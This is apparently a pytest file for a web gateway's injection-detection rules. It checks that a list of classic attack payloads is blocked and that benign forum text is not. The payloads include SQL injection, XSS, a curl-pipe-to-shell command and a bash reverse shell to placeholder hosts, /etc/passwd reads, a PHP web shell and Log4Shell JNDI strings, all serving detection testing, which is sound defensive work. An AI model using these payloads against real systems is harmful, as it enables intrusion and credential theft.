"""Injection signatures (rules/injections.yaml) and the ``inputs`` text they search.

The cases are written by hand, not drawn from the training-data grammar: classic
payloads as scanners and people send them, and the benign text that naive signatures
block (SQL and shell in developer forums, words such as "union select" in a search).
"""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any
from urllib.parse import quote

import pytest
import yaml

from gateway import config as configmod
from gateway.clients import ClientState
from gateway.features import Features
from gateway.pipeline import build
from gateway.rules import RuleOptions, RuleTable, load
from gateway.rules import table as table_mod
from gateway.rules.inputs import compile_inputs, inputs_text
from gateway.verdict import Verdict
from tests.conftest import make_features

ROOT = Path(__file__).resolve().parents[2]
CHROME = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36"
FORM = ("Content-Type", "application/x-www-form-urlencoded")
JSON = ("Content-Type", "application/json")


def request(target: str = "/", headers: list[tuple[str, str]] | None = None, body: bytes = b"", method: str = "GET") -> Features:
    hdrs = [("Host", "shop.example"), ("User-Agent", CHROME), ("Accept", "*/*"), ("Accept-Language", "en-US,en;q=0.9")]
    return make_features(method, target, hdrs + (headers or []), client_ip="203.0.113.7", body=body)


def in_query(payload: str) -> Features:
    return request("/search?q=" + quote(payload, safe=""))


def in_form(payload: str) -> Features:
    return request("/comments", [FORM], ("text=" + quote(payload, safe="")).encode(), "POST")


def in_json(payload: str) -> Features:
    return request("/api/items", [JSON], json.dumps({"name": payload}).encode(), "POST")


def in_header(payload: str) -> Features:
    return request("/", [("Referer", payload)])


def in_referer_search(text: str) -> Features:
    return request("/", [("Referer", "https://forum.example/search?q=" + quote(text, safe=""))])


PLACES = {"query": in_query, "form": in_form, "json": in_json, "header": in_header}
TEXT_PLACES = {**PLACES, "header": in_referer_search}


@pytest.fixture(scope="module")
def shipped() -> RuleTable:
    """The signatures in front of the shipped rules, as a site that runs them always would list them."""
    return load([str(ROOT / "rules" / "injections.yaml"), str(ROOT / "rules" / "default.yaml")], RuleOptions(), ClientState())


@pytest.fixture(scope="module")
def fallback() -> RuleTable:
    """The signatures as the shipped config's fallback rules, read value by value (as the pipeline compiles them)."""
    rules = {"files": [str(ROOT / "rules" / "default.yaml")], "fallback_files": [str(ROOT / "rules" / "injections.yaml")]}
    cfg = configmod.validate({"backends": {"a": {"servers": ["http://127.0.0.1:9"]}}, "rules": rules, "challenge": {"dev_generate_secret": True}},
                             str(ROOT / "clefgate.yaml"))
    table = build(cfg).fallback_rules
    assert isinstance(table, RuleTable)
    return table


def injection_rule(table: RuleTable, f: Features) -> str | None:
    out = table.evaluate(f)
    if isinstance(out, Verdict) and out.rule and out.rule in INJECTION_RULES:
        return out.rule
    return None


def _signatures() -> dict[str, Any]:
    rules = [r for f in ("injections.yaml", "scanners.yaml") for r in yaml.safe_load((ROOT / "rules" / f).read_text())["rules"] if "inputs" in r]
    return {r["name"]: compile_inputs(r["inputs"]) for r in rules}


SIGNATURES = _signatures()


def matching(f: Features) -> set[str]:
    text = inputs_text(f)
    return {name for name, rx in SIGNATURES.items() if rx.search(text)}


INJECTION_RULES = {"block-sql-injection", "block-xss", "block-path-traversal", "block-command-injection", "block-template-injection",
                   "block-code-injection", "block-nosql-injection", "block-ldap-injection", "block-xml-external-entities", "block-ssrf", "block-crlf-injection",
                   "block-log4shell-probes"}

ATTACKS = [
    ("block-sql-injection", "1' OR '1'='1"),
    ("block-sql-injection", "' UNION SELECT username, password FROM users--"),
    ("block-sql-injection", "-1 UNION ALL SELECT NULL,NULL,NULL--"),
    ("block-sql-injection", "1 AND SLEEP(5)"),
    ("block-sql-injection", "admin'--"),
    ("block-sql-injection", "1; DROP TABLE users"),
    ("block-sql-injection", "1' AND extractvalue(1,concat(0x7e,version()))--"),
    ("block-sql-injection", "1'; WAITFOR DELAY '0:0:5'--"),
    ("block-sql-injection", "1/**/UNION/**/SELECT/**/1,2,3"),
    ("block-sql-injection", "1 ORDER BY 5--"),
    ("block-sql-injection", "x') GROUP BY 1-- -"),
    ("block-sql-injection", "1); DELETE FROM users"),
    ("block-sql-injection", "1'); INSERT INTO users (name) VALUES ('x')--"),
    ("block-xss", "<script>alert(document.cookie)</script>"),
    ("block-xss", "<img src=x onerror=alert(1)>"),
    ("block-xss", "<svg/onload=alert(1)>"),
    ("block-xss", "\"><script src=//evil.example/x.js></script>"),
    ("block-xss", "javascript:alert(1)"),
    ("block-xss", "<iframe src=\"//evil.example\"></iframe>"),
    ("block-path-traversal", "../../../../etc/passwd"),
    ("block-path-traversal", "....//....//....//etc/passwd"),
    ("block-path-traversal", "..\\..\\..\\windows\\win.ini"),
    ("block-path-traversal", "file:///etc/shadow"),
    ("block-path-traversal", "/etc/passwd"),
    ("block-path-traversal", "/etc/shadow%00.png"),
    ("block-path-traversal", "/etc/passwd "),
    ("block-path-traversal", "/windows/system32/drivers/etc/hosts"),
    ("block-command-injection", "x; cat /etc/passwd"),
    ("block-command-injection", "127.0.0.1 | id"),
    ("block-command-injection", "$(whoami)"),
    ("block-command-injection", "x && curl http://evil.example/x.sh | sh"),
    ("block-command-injection", "x;cat${IFS}/etc/passwd"),
    ("block-command-injection", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"),
    ("block-command-injection", "`cat /etc/passwd`"),
    ("block-command-injection", "`id`"),
    ("block-template-injection", "{{7*7}}"),
    ("block-template-injection", "{{config.items()}}"),
    ("block-template-injection", "${T(java.lang.Runtime).getRuntime().exec('id')}"),
    ("block-code-injection", "<?php system($_GET['c']); ?>"),
    ("block-code-injection", "php://filter/convert.base64-encode/resource=index.php"),
    ("block-code-injection", '<!--#exec cmd="/bin/cat /etc/passwd"-->'),
    ("block-code-injection", '<!--#echo var="DOCUMENT_URI" -->'),
    ("block-code-injection", '{"__proto__": {"admin": true}}'),
    ("block-code-injection", "org.apache.commons.collections.functors.InvokerTransformer"),
    ("block-code-injection", '{"@class": "com.sun.rowset.JdbcRowSetImpl", "dataSourceName": "ldap://evil.example/a"}'),
    ("block-ldap-injection", "*)(uid=*))(|(uid=*"),
    ("block-xml-external-entities", '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>'),
    ("block-log4shell-probes", "${jndi:ldap://evil.example/a}"),
    ("block-log4shell-probes", "${${lower:j}ndi:${lower:l}dap://evil.example/a}"),
    ("block-ssrf", "http://169.254.169.254/latest/meta-data/iam/"),
    ("block-ssrf", "gopher://127.0.0.1:6379/_FLUSHALL"),
    ("block-ssrf", "http://0x7f000001/admin"),
]


@pytest.mark.parametrize("place", sorted(PLACES))
@pytest.mark.parametrize("rule,payload", ATTACKS, ids=[f"{r}:{p[:30]}" for r, p in ATTACKS])
def test_attacks_are_blocked_wherever_they_are(shipped: RuleTable, fallback: RuleTable, rule: str, payload: str, place: str) -> None:
    f = PLACES[place](payload)
    assert injection_rule(shipped, f) is not None  # the first matching rule blocks (several may match)
    if rule in fallback.names:  # every rule but block-log4shell-probes (rules/scanners.yaml)
        assert injection_rule(fallback, f) is not None  # read value by value, as the fallback rules read it
    assert rule in matching(f)


def test_encodings_are_seen_through(shipped: RuleTable) -> None:
    assert set(SIGNATURES) == INJECTION_RULES
    assert injection_rule(shipped, request("/download?file=..%252f..%252f..%252fetc%252fpasswd")) == "block-path-traversal"
    assert injection_rule(shipped, request("/x?id=1%27%20or%20%271%27%3D%271")) == "block-sql-injection"
    assert injection_rule(shipped, request("/x?q=%26lt;script%26gt;alert(1)%26lt;/script%26gt;")) == "block-xss"
    assert injection_rule(shipped, request("/api", [JSON], b'{"q": "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e"}', "POST")) == "block-xss"
    assert injection_rule(shipped, request("/a/..%2f..%2f..%2fetc/passwd")) == "block-path-traversal"
    assert injection_rule(shipped, request("/x?r=%0d%0aSet-Cookie:%20admin=1")) == "block-crlf-injection"
    assert injection_rule(shipped, request("/", [("User-Agent", "() { :; }; /bin/bash -c 'id'")])) == "block-command-injection"


def test_full_width_forms_are_read_folded_to_ascii(shipped: RuleTable) -> None:
    assert injection_rule(shipped, in_query("１＇ ＯＲ ＇１＇＝＇１")) == "block-sql-injection"
    assert injection_rule(shipped, in_form("＜ｓｃｒｉｐｔ＞ａｌｅｒｔ（１）＜／ｓｃｒｉｐｔ＞")) == "block-xss"
    assert injection_rule(shipped, in_json("x＇｜｜（ｓｅｌｅｃｔ ｐｇ＿ｓｌｅｅｐ（５）")) == "block-sql-injection"
    text = inputs_text(in_query("ｉＰｈｏｎｅ（１２８ＧＢ）"))
    assert "ｉｐｈｏｎｅ（１２８ｇｂ）" in text and "iphone(128gb)" in text  # as sent, and folded in a copy appended after it
    assert inputs_text(in_query("plain ascii")).count("plain ascii") == 1  # no copy without full-width forms
    # raw UTF-8 in the request line and headers (read as Latin-1 off the wire) is read as UTF-8, like escapes
    wire = request("/x?q=" + "１＇ ＯＲ ＇１＇＝＇１".encode().decode("latin-1"), [("Referer", "https://e.example/ｑ".encode().decode("latin-1"))])
    assert injection_rule(shipped, wire) == "block-sql-injection" and "https://e.example/q" in inputs_text(wire)
    assert "café" in inputs_text(in_form("café"))  # a body is decoded as UTF-8 once, not twice


BENIGN = [
    "union select meaning",
    "order by date",
    "dog & cat toys",
    "rock & roll; more info on the site",
    "Tom's \"best\" picks -- reviewed",
    "Try SELECT id, name FROM users WHERE active = 1 ORDER BY name and add an index on active",
    "query is select * from orders where status = 'open' and total > 100 - is an index on status enough?",
    "SELECT kind, count(*) FROM t GROUP BY 1;",
    "select author, group_concat(title) from posts group by author",
    "print('total')  # prints it",
    "use time.sleep(5) between retries",
    "Use <script defer> or async for faster pages",
    "relative imports like ../../lib/utils break when you move files",
    "ran chmod 640 on the key and it worked",
    "reproduced with `curl -X POST localhost:8080/api -d '{}'`",
    "edit /etc/hosts to point the name at 127.0.0.1",
    "what's the difference between && and || in bash?",
    "<b>great</b> product, 5 stars",
    "I'd rate it 10/10 -- would buy again",
    "C:\\Users\\me\\Documents\\report.docx",
    "we went hiking; sleep 8 hours is not enough",
    "email me at jane.doe+shop@example.com",
    "price < 100 and rating > 4",
    "JavaScript: The Good Parts",
    "https://www.example.com/?utm_source=newsletter&utm_medium=email",
    "server listening on http://0.0.0.0:8080 and http://[::]:8080",
    "open http://127.0.0.1/ in your browser",
    "curl http://localhost:9200/_cat/indices returns nothing",
    "set redirect_uri=http://localhost:3000/callback for local testing",
    "the cat /etc/passwd trick only shows local users",
    "etc/shadow format",
    "/etc/passwd fields explained",
    "how to fix `ls` permission denied",
    "`npm install` fails on windows",
    "`ls` permission denied",
    "`cat` shows nothing",
    # full-width punctuation, as people type it in Chinese and Japanese (the signatures also read it folded to ASCII)
    "東京／大阪（２０２５年）の価格＜１０００円",
    "新的翻譯檔應該含有您的電子信箱位址，這樣使用者就可以對您的翻譯提出意見。",
    "ｉＰｈｏｎｅ　１５（１２８ＧＢ）＆ケース",
    "错误：无法监视 non-message-bus 连接；请重试！",
    "設定：ｈｏｓｔ＝ｌｏｃａｌｈｏｓｔ",
]


@pytest.mark.parametrize("place", sorted(PLACES))
@pytest.mark.parametrize("text", BENIGN)
def test_benign_text_is_left_to_the_model(shipped: RuleTable, fallback: RuleTable, text: str, place: str) -> None:
    f = TEXT_PLACES[place](text)
    assert injection_rule(shipped, f) is None
    assert injection_rule(fallback, f) is None
    assert matching(f) == set()


def test_multi_line_posts_are_not_command_lines(shipped: RuleTable) -> None:
    post = "Steps to reproduce:\r\ncat /etc/passwd | wc -l\r\nLocation: Berlin\r\n\r\n<b>thanks</b>"
    assert injection_rule(shipped, in_form(post)) is None
    assert injection_rule(shipped, request("/x?host=example.com%0aid")) == "block-command-injection"


def test_inputs_text_decodes_once_per_request_and_skips_protocol_headers() -> None:
    f = request("/p/a%2520b?q=a+b%2527&x=%3Cb%3E", [("Cookie", "s=%27x"), JSON], b'{"k": "line\\nnext \\u0041"}', "POST")
    text = inputs_text(f)
    assert "/p/a b" in text and "q=a b'" in text and "x=<b>" in text and "s='x" in text
    assert "line\fnext a" in text  # JSON escapes undone, body line breaks read as plain whitespace, lower-cased
    assert "*/*" not in text and "en-us" in text  # Accept is grammar; Accept-Language is data
    assert "\na=1 union\n" in inputs_text(request("/x?a=1/**/union"))


def test_inputs_are_built_only_when_an_inputs_rule_is_reached(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    calls: list[Features] = []

    def counting(f: Features) -> str:
        calls.append(f)
        return inputs_text(f)

    monkeypatch.setattr(table_mod, "inputs_text", counting)
    rules = tmp_path / "r.yaml"
    rules.write_text("rules:\n  - {name: early, path: /health, action: allow}\n"
                     "  - {name: a, inputs: ['<script'], action: block}\n  - {name: b, inputs: ['drop\\s+table'], action: block}\n")
    table = load([str(rules)], RuleOptions(), ClientState())
    table.evaluate(request("/health?q=<script>"))
    assert calls == []
    assert table.evaluate(request("/x?q=1;drop table t")).rule == "b"  # type: ignore[union-attr]
    assert len(calls) == 1
